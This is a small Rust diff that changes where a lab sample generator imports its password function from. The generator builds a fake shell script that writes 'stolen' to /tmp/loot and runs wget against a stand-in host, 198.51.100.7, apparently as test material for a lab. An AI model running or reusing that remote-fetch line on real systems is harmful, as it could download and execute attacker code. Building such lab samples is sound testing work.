@@ -63,7 +63,7 @@ pub(super) fn play(stage: &Stage) -> anyhow::Result<Option<Outcome>> {
 
 /// Each run has new content, so that the lab has something to do.
 fn drop_of_samples() -> Vec<(&'static str, Vec<u8>)> {
-    let salt = format!("# {}\n", weir_mail::desk::fresh_password());
+    let salt = format!("# {}\n", weir_foundation::secret::fresh_password());
     let script =
         format!("#!/bin/sh\n{salt}echo stolen > /tmp/loot\n(sleep 1; wget -q http://198.51.100.7/next) &\nwait\n");
     vec![
